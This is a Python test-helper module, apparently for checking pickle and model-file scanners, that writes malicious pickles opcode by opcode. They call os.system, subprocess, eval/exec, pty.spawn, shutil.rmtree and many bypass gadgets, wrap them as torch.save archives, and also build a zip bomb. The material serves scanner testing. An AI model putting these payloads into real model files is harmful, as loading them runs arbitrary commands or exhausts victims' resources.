"""Pickles that call what public advisories and scanners' bug lists name, written opcode by opcode.

Nothing is imported to make one, so that functions of any system and of packages that are not here can be named. The
names are those of the advisories of picklescan and modelscan, and of PyTorch's about weights_only.
"""

import io
import pickle
import re
import struct
import sys
import zipfile
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass
from pathlib import Path
from types import ModuleType
from unittest.mock import patch

import torch

HOW = ("reduce", "newobj", "inst", "obj", "build")


@dataclass(frozen=True)
class Call:
    """The call of `function`, a dotted name whose last part is the function's, or of what another call gives."""

    function: "str | Call"
    arguments: tuple[object, ...] = ()


@dataclass(frozen=True)
class Global:
    """A name alone."""

    name: str


def gadgets(command: str) -> dict[str, Call]:
    """By the name that a sentence is to give, what would run `command`."""
    code = f"__import__('os').system({command!r})"
    shell = ["sh", "-c", command]
    partial, module, system = "functools.partial", Global("os"), Global("os.system")
    imported = Call("builtins.__import__", ("os",))
    nested = {
        "builtins.getattr": Call(Call("builtins.getattr", (imported, "system")), (command,)),
        partial: Call(Call(partial, (Call(partial, (system,)), command))),
        "operator.attrgetter": Call(Call(Call("operator.attrgetter", ("system",)), (module,)), (command,)),
        "operator.methodcaller": Call(Call("operator.methodcaller", ("system", command)), (module,)),
    }
    return nested | {name: Call(name, arguments) for name, arguments in _arguments(command, code, shell).items()}


def _arguments(command: str, code: str, shell: list[str]) -> dict[str, tuple[object, ...]]:
    """By a function's name, the arguments with which it would run `command`, as Python `code` or by a `shell`."""
    return {
        "posix.system": (command,),
        "nt.system": (command,),
        "os.system": (command,),
        "os.popen": (command,),
        "os.execvp": ("sh", shell),
        "subprocess.Popen": (shell,),
        "subprocess.check_output": (shell,),
        "builtins.eval": (code,),
        "builtins.exec": (code,),
        "builtins.compile": (code, "x", "exec"),
        "builtins.__import__": ("this",),
        "builtins.open": (command.split()[-1], "w"),
        "importlib.import_module": ("this",),
        "runpy._run_code": (code, {}),
        "runpy.run_path": (command,),
        "torch.hub.load": ("owner/name", "model"),
        "torch.load": (command, None, None, False),
        "torch.utils.collect_env.run": (command,),
        "torch.utils._config_module.load_config": ({"x": code},),
        "torch.utils.bottleneck.__main__.run_cprofile": (code, {}),
        "torch.jit.unsupported_tensor_ops.execWrapper": (code, {}, {}),
        "numpy.testing._private.utils.runstring": (code, {}),
        "numpy.f2py.crackfortran.getlincoef": (code, []),
        "bdb.Bdb.run": (Call("bdb.Bdb"), code),
        "pdb.run": (code,),
        "cProfile.run": (code,),
        "trace.Trace.run": (Call("trace.Trace"), code),
        "timeit.timeit": ("0", code),
        "code.InteractiveInterpreter.runsource": (Call("code.InteractiveInterpreter"), code),
        "pip.main": (["download", "name"],),
        "ensurepip._run_pip": (["download", "name"],),
        "idlelib.run.Executive.runcode": (None, code),
        "idlelib.pyshell.ModifiedInterpreter.runcommand": (None, code),
        "lib2to3.pgen2.grammar.Grammar.loads": (None, code),
        "webbrowser.open": ("about:blank",),
        "ctypes.CDLL": (command,),
        "asyncio.unix_events._UnixSubprocessTransport._start": ({}, command, True, None, None, None, 0),
        "site.addpackage": ("/", "x.pth", None),
        "pydoc.pipepager": ("x", command),
        "uuid._get_command_stdout": ("sh", "-c", command),
        "logging.config.listen": (0,),
        "pty.spawn": (shell,),
        "shutil.rmtree": (command.split()[-1],),
        "pickle.loads": (hostile(Call("os.system", (command,))),),
        "marshal.loads": (b"\0",),
        "types.FunctionType": (None, {}),
        "copyreg._reconstructor": (Global("subprocess.Popen"), Global("os.system"), shell),
        "socket.create_connection": (("127.0.0.1", 9),),
        "urllib.request.urlopen": ("http://127.0.0.1:9/",),
        "smtplib.SMTP": ("127.0.0.1", 9),
    }


def hostile(call: Call, how: str = "reduce") -> bytes:
    """A pickle of protocol 2, as torch writes it: a dict with a text and the call.

    `how` is by what opcode the outermost call is made: one of HOW; newobj is what `__reduce_ex__(2)` gives.
    """
    return b"\x80\x02}(X\x01\0\0\0aX\x01\0\0\0b" + b"X\x01\0\0\0x" + _made(call, how) + b"u."


def _made(call: Call, how: str) -> bytes:
    if not isinstance(call.function, str) or how == "reduce":
        return _written(call)
    module, _, name = call.function.rpartition(".")
    function, arguments = _global(call.function), b"".join(map(_written, call.arguments))
    forms = {
        "inst": b"(" + arguments + f"i{module}\n{name}\n".encode(),
        "obj": b"(" + function + arguments + b"o",
        "newobj": function + b"(" + arguments + b"t\x81",
        "build": function + b"(" + arguments + b"tb",
    }
    return forms[how]


def _written(value: object) -> bytes:
    if isinstance(value, Call):
        function = _global(value.function) if isinstance(value.function, str) else _written(value.function)
        return function + b"(" + b"".join(map(_written, value.arguments)) + b"tR"
    if isinstance(value, Global):
        return _global(value.name)
    return pickle.dumps(value, protocol=2)[2:-1]  # without the opcodes that begin and end a pickle


def _global(name: str) -> bytes:
    module, _, own = name.rpartition(".")
    return f"c{module or 'builtins'}\n{own}\n".encode()


@contextmanager
def class_of(full_name: str) -> Iterator[type]:
    """A class that can be pickled under a module that is not installed here, and is gone afterwards."""
    module, _, own = full_name.rpartition(".")
    init = lambda instance, *state: vars(instance).update(state=state)  # noqa: E731
    made = type(own, (), {"__module__": module, "__qualname__": own, "__init__": init})
    names = [module[: match.start()] for match in re.finditer(r"\.|$", module)]
    with patch.dict(sys.modules, {name: ModuleType(name) for name in names}):
        setattr(sys.modules[module], own, made)
        yield made


def in_zip(content: bytes, compression: int = zipfile.ZIP_STORED) -> bytes:
    """As torch.save wraps a pickle."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        archive.writestr("archive/data.pkl", content)
        archive.writestr("archive/version", "3\n")
        archive.writestr("archive/byteorder", "little")
    return buffer.getvalue()


def zip_bomb(path: Path, size: int) -> Path:
    """A tensor of `size` bytes of zeros in a deflated zip, whose pickle was written for a smaller one."""
    whole = io.BytesIO()
    torch.save({"x": torch.zeros(size // 2**20)}, whole)
    with zipfile.ZipFile(whole) as source, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as archive:
        for part in source.infolist():
            content = source.read(part)
            if part.filename.endswith("/data.pkl"):
                content = content.replace(struct.pack("<H", size // 2**20), struct.pack("<H", 0xFFFF))
            if not part.filename.endswith("/data/0"):
                archive.writestr(part.filename, content)
                continue
            with archive.open(part.filename, "w", force_zip64=True) as file:
                for _ in range(size // 2**24):
                    file.write(bytes(2**24))
    return path
